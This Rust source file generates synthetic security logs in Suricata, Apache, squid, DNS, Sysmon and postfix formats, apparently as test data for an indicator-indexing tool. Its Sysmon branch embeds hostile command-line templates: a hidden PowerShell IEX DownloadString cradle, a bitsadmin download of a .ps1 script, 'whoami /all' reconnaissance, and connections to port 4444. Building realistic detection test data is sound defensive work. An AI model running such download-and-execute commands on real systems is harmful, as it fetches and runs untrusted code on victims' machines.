//! The other formats of [`Gen`]: Suricata EVE, Apache, squid, DNS servers, Sysmon, postfix.

use rand::Rng;

use super::generator::{
    DOM, EMAIL, Gen, HASHES, IP4, IP6, MD5, MUTEX, SHA1, SHA256, UA, URL, push_ip4,
};
use super::index::fp;
use super::vocab::{ET_SIGS, WIN_HOSTS, WIN_USERS, gen_path, push_alnum, push_word};

impl<'a> Gen<'a> {
    fn eve_head(&mut self, event: &str, v6: bool, inbound: bool, dport: &str, proto: &str) {
        self.s("{\"timestamp\":\"");
        self.ts_iso_us();
        self.s("\",\"flow_id\":");
        self.nr(100_000_000_000_000, 2_000_000_000_000_000);
        self.s(",\"in_iface\":\"eth0\",\"event_type\":\"");
        self.s(event);
        self.s("\",\"src_ip\":\"");
        self.addr(v6, inbound);
        self.s("\",\"src_port\":");
        self.port();
        self.s(",\"dest_ip\":\"");
        self.addr(v6, !inbound);
        self.s("\",\"dest_port\":");
        self.s(dport);
        self.s(",\"proto\":\"");
        self.s(proto);
        self.s("\"");
    }

    pub(super) fn f_suricata(&mut self) {
        match self.sub(&[
            (5, IP4 | IP6),
            (5, IP4 | IP6),
            (5, IP4 | DOM),
            (2, IP4 | DOM | UA),
            (2, IP4 | DOM),
            (1, IP4 | HASHES),
            (3, IP4),
        ]) {
            0 => {
                let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
                let port = self.one(&["22", "23", "445", "3389", "1433", "80"]);
                self.eve_head("alert", v6, true, port, "TCP");
                let (sig, cat) = ET_SIGS[self.rng.gen_range(0..ET_SIGS.len())];
                self.s(",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":");
                self.nr(2_000_000, 2_900_000);
                self.s(",\"rev\":");
                self.nr(1, 70_000);
                self.s(",\"signature\":\"");
                self.s(sig);
                self.s("\",\"category\":\"");
                self.s(cat);
                self.s("\",\"severity\":");
                self.nr(1, 4);
                self.s("},\"app_proto\":\"failed\"}");
            }
            1 => {
                let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
                let inbound = self.rng.gen_ratio(1, 2);
                let (port, proto) = [
                    ("443", "TCP"),
                    ("80", "TCP"),
                    ("53", "UDP"),
                    ("123", "UDP"),
                    ("22", "TCP"),
                ][self.rng.gen_range(0..5)];
                self.eve_head("flow", v6, inbound, port, proto);
                self.s(",\"flow\":{\"pkts_toserver\":");
                self.nr(1, 500);
                self.s(",\"pkts_toclient\":");
                self.nr(0, 500);
                self.s(",\"bytes_toserver\":");
                self.nr(40, 500_000);
                self.s(",\"bytes_toclient\":");
                self.nr(0, 5_000_000);
                self.s(",\"state\":\"");
                self.p(&["closed", "new", "established"]);
                self.s("\",\"reason\":\"timeout\",\"alerted\":false}}");
            }
            2 => {
                self.eve_head("dns", false, false, "53", "UDP");
                self.s(",\"dns\":{\"type\":\"query\",\"id\":");
                self.nr(1, 65535);
                self.s(",\"rrname\":\"");
                self.domain();
                self.s("\",\"rrtype\":\"");
                self.p(&["A", "AAAA", "A", "HTTPS", "TXT"]);
                self.s("\",\"tx_id\":0}}");
            }
            3 => {
                self.eve_head("http", false, false, "80", "TCP");
                self.s(",\"http\":{\"hostname\":\"");
                self.domain();
                self.s("\",\"url\":\"");
                let mut path = std::mem::take(&mut self.tmp);
                path.clear();
                gen_path(&mut self.rng, &mut path, false);
                self.s(&path);
                self.tmp = path;
                self.s("\",\"http_user_agent\":\"");
                self.ua();
                self.s("\",\"http_content_type\":\"text/html\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":");
                self.p(&["200", "404", "302", "403"]);
                self.s(",\"length\":");
                self.nr(0, 200_000);
                self.s("}}");
            }
            4 => {
                self.eve_head("tls", false, false, "443", "TCP");
                self.s(",\"tls\":{\"subject\":\"CN=");
                let d = self.domain();
                self.s("\",\"issuerdn\":\"C=US, O=Let's Encrypt, CN=R3\",\"serial\":\"");
                for i in 0..9 {
                    if i > 0 {
                        self.s(":");
                    }
                    self.hex(2, true);
                }
                self.s("\",\"fingerprint\":\"");
                for i in 0..20 {
                    if i > 0 {
                        self.s(":");
                    }
                    self.hex(2, false);
                }
                self.s("\",\"sni\":\"");
                self.again(d);
                self.s("\",\"version\":\"TLS 1.2\"}}");
            }
            5 => {
                self.eve_head("fileinfo", false, true, "80", "TCP");
                self.s(",\"fileinfo\":{\"filename\":\"/");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_word(&mut self.rng, &mut t, 3);
                self.s(&t);
                self.tmp = t;
                self.s(".exe\",\"magic\":\"PE32 executable (GUI) Intel 80386, for MS Windows\",\"state\":\"CLOSED\",\"md5\":\"");
                self.hash(MD5, false);
                self.s("\",\"sha1\":\"");
                self.hash(SHA1, false);
                self.s("\",\"sha256\":\"");
                self.hash(SHA256, false);
                self.s("\",\"stored\":false,\"size\":");
                self.nr(1000, 5_000_000);
                self.s(",\"tx_id\":0}}");
            }
            _ => {
                // fast.log
                self.pad(self.tm.mo as u64, 2);
                self.s("/");
                self.pad(self.tm.d as u64, 2);
                self.s("/");
                self.n(self.tm.y as u64);
                self.s("-");
                self.hms();
                self.s(".");
                self.padr(0..1_000_000, 6);
                let (sig, cat) = ET_SIGS[self.rng.gen_range(0..ET_SIGS.len())];
                self.s("  [**] [1:");
                self.nr(2_000_000, 2_900_000);
                self.s(":");
                self.nr(1, 20);
                self.s("] ");
                self.s(sig);
                self.s(" [**] [Classification: ");
                self.s(cat);
                self.s("] [Priority: 2] {TCP} ");
                self.ip4();
                self.s(":");
                self.port();
                self.s(" -> ");
                self.ip4_int();
                self.s(":");
                self.p(&["22", "23", "445", "3389", "80"]);
            }
        }
    }

    pub(super) fn f_apache(&mut self) {
        if self.sub(&[(9, IP4 | URL | UA), (1, IP6 | URL | UA)]) == 1 {
            self.ip6();
        } else {
            self.ip4();
        }
        self.s(" - - [");
        self.ts_apache();
        self.s("] \"");
        self.p(&["GET", "GET", "GET", "POST", "HEAD"]);
        self.s(" ");
        let mut path = std::mem::take(&mut self.tmp);
        path.clear();
        gen_path(&mut self.rng, &mut path, false);
        self.s(&path);
        self.tmp = path;
        self.s(" HTTP/1.1\" ");
        self.p(&["200", "200", "200", "304", "404", "301", "500"]);
        self.s(" ");
        self.nr(0, 300_000);
        self.s(" \"");
        match self.sub(&[(3, 0), (3, 0), (4, URL)]) {
            0 => self.s("-"),
            1 => {
                self.s("https://www.northwind-traders.com");
                let mut path = std::mem::take(&mut self.tmp);
                path.clear();
                gen_path(&mut self.rng, &mut path, false);
                self.s(&path);
                self.tmp = path;
            }
            _ => {
                self.url();
            }
        }
        self.s("\" \"");
        self.ua();
        self.s("\"");
    }

    pub(super) fn f_squid(&mut self) {
        self.ts_epoch(3);
        self.s(" ");
        let el = self.rng.gen_range(1..99_999);
        let w = if el < 10 {
            5
        } else if el < 100 {
            4
        } else if el < 1000 {
            3
        } else if el < 10_000 {
            2
        } else {
            1
        };
        for _ in 0..w {
            self.s(" ");
        }
        self.n(el);
        self.s(" ");
        self.ip4_int();
        if self.sub(&[(3, URL | IP4), (1, DOM | IP4)]) == 0 {
            self.s(" ");
            self.p(&[
                "TCP_MISS/200",
                "TCP_MISS/200",
                "TCP_REFRESH_MODIFIED/200",
                "TCP_MISS/404",
                "TCP_DENIED/403",
            ]);
            self.s(" ");
            self.nr(300, 2_000_000);
            self.s(" GET ");
            self.url();
            self.s(" ");
            self.p(&["-", "-", "jdoe", "msmith"]);
            self.s(" HIER_DIRECT/");
            self.ip4();
            self.s(" ");
            self.p(&[
                "text/html",
                "application/octet-stream",
                "image/png",
                "application/json",
            ]);
        } else {
            self.s(" TCP_TUNNEL/200 ");
            self.nr(300, 20_000_000);
            self.s(" CONNECT ");
            self.domain();
            self.s(":443 ");
            self.p(&["-", "-", "jdoe", "msmith"]);
            self.s(" HIER_DIRECT/");
            self.ip4();
            self.s(" -");
        }
    }

    pub(super) fn f_dns(&mut self) {
        self.ts_syslog();
        match self.sub(&[(5, DOM | IP4), (2, DOM), (2, DOM | IP4 | IP6)]) {
            0 => {
                self.s(" ns1 named[812]: client @0x7f");
                self.hex(10, false);
                self.s(" ");
                if self.sub(&[(4, 0), (1, IP4)]) == 1 {
                    self.ip4();
                } else {
                    self.ip4_int();
                }
                self.s("#");
                self.port();
                self.s(" (");
                let d = self.domain();
                self.s("): query: ");
                self.again(d);
                self.s(" IN ");
                self.p(&["A", "A", "AAAA", "MX", "TXT", "HTTPS"]);
                self.s(" ");
                self.p(&["+E(0)K", "+", "-E(0)", "+ET"]);
                self.s(" (");
                self.ip4_int();
                self.s(")");
            }
            1 => {
                self.s(" gw dnsmasq[611]: query[");
                self.p(&["A", "AAAA", "HTTPS"]);
                self.s("] ");
                self.domain();
                self.s(" from ");
                self.ip4_int();
            }
            _ => {
                self.s(" gw dnsmasq[611]: reply ");
                self.domain();
                self.s(" is ");
                if self.sub(&[(4, IP4 | DOM), (1, IP6 | DOM)]) == 1 {
                    self.ip6();
                } else {
                    self.ip4();
                }
            }
        }
    }

    fn sysmon_head(&mut self, eid: u32) {
        self.s("{\"EventTime\":\"");
        self.ymd();
        self.s(" ");
        self.hms();
        self.s("\",\"Hostname\":\"");
        self.p(WIN_HOSTS);
        self.s("\",\"EventID\":");
        self.n(eid as u64);
        self.s(",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"RecordNumber\":");
        self.nr(100_000, 9_999_999);
        self.s(",\"UtcTime\":\"");
        self.ts_sql();
        self.s("\",\"ProcessGuid\":\"");
        self.guid();
        self.s("\",\"ProcessId\":\"");
        self.nr(100, 20_000);
        self.s("\"");
    }

    pub(super) fn f_sysmon(&mut self) {
        match self.sub(&[(4, HASHES | URL | MUTEX), (4, IP4 | IP6 | DOM), (2, DOM)]) {
            0 => {
                self.sysmon_head(1);
                let v = self.sub(&[(4, 0), (2, URL), (1, URL), (1, MUTEX)]);
                match v {
                    0 => {
                        let (img, cmd) = [
                            (
                                r#"C:\\Windows\\System32\\cmd.exe"#,
                                r#"\"C:\\Windows\\system32\\cmd.exe\" /c whoami /all"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\svchost.exe"#,
                                r#"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\conhost.exe"#,
                                r#"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
                                r#"powershell.exe -NoProfile -Command Get-Process"#,
                            ),
                        ][self.rng.gen_range(0..4)];
                        self.s(",\"Image\":\"");
                        self.s(img);
                        self.s("\",\"CommandLine\":\"");
                        self.s(cmd);
                    }
                    1 => {
                        self.s(r#","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('"#);
                        self.url();
                        self.s("')\\\"");
                    }
                    2 => {
                        self.s(r#","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /transfer job"#);
                        self.nr(1, 100);
                        self.s(" /download /priority high ");
                        self.url();
                        self.s(r#" C:\\Users\\Public\\"#);
                        self.nr(1000, 9999);
                        self.s(".ps1");
                    }
                    _ => {
                        self.s(r#","Image":"C:\\Users\\Public\\Downloads\\"#);
                        let mut t = std::mem::take(&mut self.tmp);
                        t.clear();
                        push_word(&mut self.rng, &mut t, 2);
                        self.s(&t);
                        self.s(r#".exe","CommandLine":"C:\\Users\\Public\\Downloads\\"#);
                        self.s(&t);
                        self.tmp = t;
                        self.s(".exe -m ");
                        self.mutex();
                        self.s(" -s");
                    }
                }
                self.s("\",\"FileVersion\":\"10.0.");
                self.nr(17_763, 22_631);
                self.s(".");
                self.nr(1, 4000);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\",\"IntegrityLevel\":\"");
                self.p(&["Medium", "High", "System"]);
                self.s("\",\"Hashes\":\"SHA1=");
                self.hash(SHA1, true);
                self.s(",MD5=");
                self.hash(MD5, true);
                self.s(",SHA256=");
                self.hash(SHA256, true);
                self.s(",IMPHASH=");
                // an imphash is not a file hash indicator, but it is a 32-digit hex token
                let r = self.buf.len();
                loop {
                    self.buf.truncate(r);
                    self.hex(32, true);
                    let s = std::str::from_utf8(&self.buf[r..])
                        .unwrap()
                        .to_ascii_lowercase();
                    if !self.set.idx.hashes.contains(&fp(&s)) {
                        break;
                    }
                }
                self.s(r#"","ParentImage":"C:\\Windows\\explorer.exe"}"#);
            }
            1 => {
                self.sysmon_head(3);
                self.s(r#","Image":""#);
                self.p(&[
                    r#"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
                    r#"C:\\Windows\\System32\\svchost.exe"#,
                    r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
                    r#"C:\\Users\\Public\\update.exe"#,
                ]);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\",\"Protocol\":\"tcp\",\"Initiated\":\"true\",");
                if self.sub(&[(9, IP4 | DOM), (1, IP6 | DOM)]) == 1 {
                    self.s("\"SourceIsIpv6\":\"true\",\"SourceIp\":\"");
                    self.ip6_int();
                    self.s("\",\"SourcePort\":\"");
                    self.port();
                    self.s("\",\"DestinationIsIpv6\":\"true\",\"DestinationIp\":\"");
                    self.ip6();
                } else {
                    self.s("\"SourceIsIpv6\":\"false\",\"SourceIp\":\"");
                    self.ip4_int();
                    self.s("\",\"SourcePort\":\"");
                    self.port();
                    self.s("\",\"DestinationIsIpv6\":\"false\",\"DestinationIp\":\"");
                    self.ip4();
                }
                self.s("\",\"DestinationHostname\":\"");
                self.domain();
                self.s("\",\"DestinationPort\":\"");
                self.p(&["443", "80", "8080", "4444", "8443"]);
                self.s("\"}");
            }
            _ => {
                self.sysmon_head(22);
                self.s(",\"QueryName\":\"");
                self.domain();
                self.s("\",\"QueryStatus\":\"0\",\"QueryResults\":\"type:  5 ");
                self.bg_domain_tmp();
                let t = std::mem::take(&mut self.tmp);
                self.s(&t);
                self.tmp = t;
                self.s(";::ffff:");
                let ip = self.bg_ip4();
                push_ip4(&mut self.buf, ip);
                self.s(";\",\"Image\":\"");
                self.p(&[
                    r#"C:\\Windows\\System32\\svchost.exe"#,
                    r#"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
                    r#"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"#,
                ]);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\"}");
            }
        }
    }

    fn queue_id(&mut self) {
        self.hex(10, true);
    }

    /// `[` and the peer's address, IPv6 one time in ten (the caller closes the bracket).
    fn postfix_peer_addr(&mut self) {
        self.s("[");
        if self.sub(&[(9, IP4), (1, IP6)]) == 1 {
            self.ip6();
        } else {
            self.ip4();
        }
    }

    pub(super) fn f_postfix(&mut self) {
        self.ts_syslog();
        self.s(" mx1 postfix/");
        match self.sub(&[
            (2, DOM | IP4 | IP6),
            (3, EMAIL),
            (3, EMAIL | DOM | IP4 | IP6),
            (1, IP4 | EMAIL | DOM),
        ]) {
            0 => {
                self.s("smtpd[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": client=");
                if self.sub(&[(1, 0), (3, DOM)]) == 0 {
                    self.s("unknown");
                } else {
                    self.domain();
                }
                self.postfix_peer_addr();
                self.s("]");
            }
            1 => {
                self.s("qmgr[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": from=<");
                self.email();
                self.s(">, size=");
                self.nr(500, 5_000_000);
                self.s(", nrcpt=");
                self.nr(1, 5);
                self.s(" (queue active)");
            }
            2 => {
                self.s("smtp[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": to=<");
                self.email();
                self.s(">, relay=");
                self.domain();
                self.postfix_peer_addr();
                self.s("]:25, delay=");
                self.nr(0, 10);
                self.s(".");
                self.nr(1, 10);
                self.s(", delays=0.1/0/0.");
                self.nr(1, 10);
                self.s("/0.");
                self.nr(1, 10);
                self.s(", dsn=2.0.0, status=sent (250 2.0.0 OK ");
                self.n(self.tm.secs);
                self.s(" ");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_alnum(&mut self.rng, &mut t, 14);
                self.s(&t);
                self.tmp = t;
                self.s(" - gsmtp)");
            }
            _ => {
                self.s("smtpd[");
                self.nr(1000, 40_000);
                self.s("]: NOQUEUE: reject: RCPT from unknown[");
                self.ip4();
                self.s("]: 554 5.7.1 <");
                let r = self.email();
                self.s(">: Relay access denied; from=<");
                self.again(r);
                self.s("> to=<");
                self.bg_email_tmp();
                let t = std::mem::take(&mut self.tmp);
                self.s(&t);
                self.tmp = t;
                self.s("> proto=ESMTP helo=<");
                self.domain();
                self.s(">");
            }
        }
    }
}
